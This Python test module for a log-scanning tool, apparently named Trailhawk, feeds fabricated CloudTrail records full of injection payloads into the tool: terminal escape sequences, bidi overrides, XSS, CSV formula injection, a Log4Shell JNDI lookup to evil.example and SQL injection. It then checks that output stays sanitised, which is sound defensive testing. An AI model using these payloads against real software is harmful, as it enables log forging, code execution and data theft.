"""C, W, D: what people and programs are shown, and what Trailhawk stands on."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from typing import Any

from bars.harness import ANY_EVENT, Bar, Context, Outcome, delivery, event, run_command

__all__ = ["SHOWING", "hostile_texts"]

SEEDS = (
    "\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m",
    "\x90q\x9c",
    "\r overwritten",
    "\b\b\b",
    "\x07",
    "\x00",
    "\u202eexe.txt",
    "\u2066x\u2069",
    "\u200b",
    "\ufeff",
    "\u2028",
    "[link=https://evil.example]x[/link]",
    "[/]",
    "[bold red]",
    "{0.__class__}",
    "<script>window.__canary=1</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><script>",
    "javascript:1",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\n=1",
    "\uff1d1+1",
    '=HYPERLINK("http://evil.example")',
    ";=1",
    '{"kind":"finding"}',
    '\n{"kind":"finding"}',
    "${jndi:ldap://evil.example}",
    "%s%n",
    "'; DROP TABLE x; --",
)


def hostile_texts(context: Context, number: int) -> list[str]:
    """Return texts made of the seeds, alone and joined."""
    rng = context.rng
    joined = ["".join(rng.choice(SEEDS) for _ in range(rng.randrange(1, 4))) for _ in range(number)]
    return [*SEEDS, *joined][:number]


def _hostile_logs(context: Context, number: int) -> list[str]:
    texts = hostile_texts(context, number)
    records: list[dict[str, Any]] = []
    for at, text in enumerate(texts):
        identity = {
            "type": text,
            "arn": f"arn:aws:iam::1:user/{text}",
            "userName": text,
            "accessKeyId": text,
        }
        names = ("userAgent", "sourceIPAddress", "awsRegion", "errorCode", "errorMessage")
        more: dict[str, Any] = dict.fromkeys((*names, "eventSource", "recipientAccountId"), text)
        more |= {"eventName": f"Describe{text}", "userIdentity": identity, "eventID": f"{at}{text}"}
        more["requestParameters"] = {text: text, "name": text}
        records.append(event(at, **more))
    (context.folder / "h.json").write_bytes(delivery(records))
    rule = ANY_EVENT.replace(
        "title: any", f"title: {json.dumps(''.join(SEEDS[:8]), ensure_ascii=True)}"
    )
    (context.folder / "r.yml").write_text(rule)
    return texts


OURS = re.compile(rb"\x1b\[[0-9;]*m")
CONTROL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
)


def c1(context: Context) -> Outcome:
    """The terminal receives no control but line feeds and our own colours."""
    texts = _hostile_logs(context, context.scale(500, 5_000))
    logs, rules = str(context.folder / "h.json"), ["-r", str(context.folder / "r.yml")]
    commands = [
        ["scan", logs, *rules, "--all", "--color", "always"],
        ["rules", "list", *rules],
        ["rules", "show", "any", *rules],
        ["scan", f"{context.folder}/\x1b[31mnone", *rules],
    ]
    found, crashed = 0, 0
    for command in commands:
        ran = run_command(*command)
        text = OURS.sub(b"", ran.out + ran.err).decode("utf-8", "surrogateescape")
        found += len(CONTROL.findall(text))
        crashed += b"Traceback" in ran.err
    return Outcome(
        not found and not crashed,
        f"{len(texts)} texts x {len(commands)} commands, controls {found}, crashes {crashed}",
    )


def c2(context: Context) -> Outcome:
    """One finding is one line, whatever it holds."""
    texts = _hostile_logs(context, 100)
    ran = run_command(
        "scan", str(context.folder / "h.json"), "-r", str(context.folder / "r.yml"), "--json"
    )
    kinds = [json.loads(line)["kind"] for line in ran.out.decode().split("\n") if line]
    count = kinds.count("finding")
    return Outcome(count == len(texts), f"{len(texts)} events, {count} finding lines")


START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def w4(context: Context) -> Outcome:
    """No cell of a CSV file is a formula, and the texts come back."""
    texts = _hostile_logs(context, context.scale(200, 5_000))
    out = context.folder / "o.csv"
    run_command(
        "scan", str(context.folder / "h.json"), "-r", str(context.folder / "r.yml"), "-o", str(out)
    )
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8"), newline="")))
    formulas = sum(cell.startswith(START) for row in rows for cell in row)
    return Outcome(
        formulas == 0 and len(rows) == len(texts) + 1,
        f"{len(rows) - 1} rows, formula cells {formulas}",
    )


def d2(context: Context) -> Outcome:
    """Without the linear-time engine Trailhawk refuses to start and says why."""
    hide = (
        "import sys; sys.modules['re2'] = None\n"
        "from trailhawk.cli.main import run\n"
        "sys.argv = ['trailhawk', 'rules', 'list']\nrun()"
    )
    done = subprocess.run([sys.executable, "-c", hide], capture_output=True, check=False)
    clear = b"re2" in done.stderr and b"Traceback" not in done.stderr
    return Outcome(
        clear and done.returncode == 70,
        f"exit {done.returncode}: {done.stderr.decode().strip()[:80]}",
    )


SHOWING: dict[str, Bar] = {"C1": c1, "C2": c2, "W4": w4, "D2": d2}
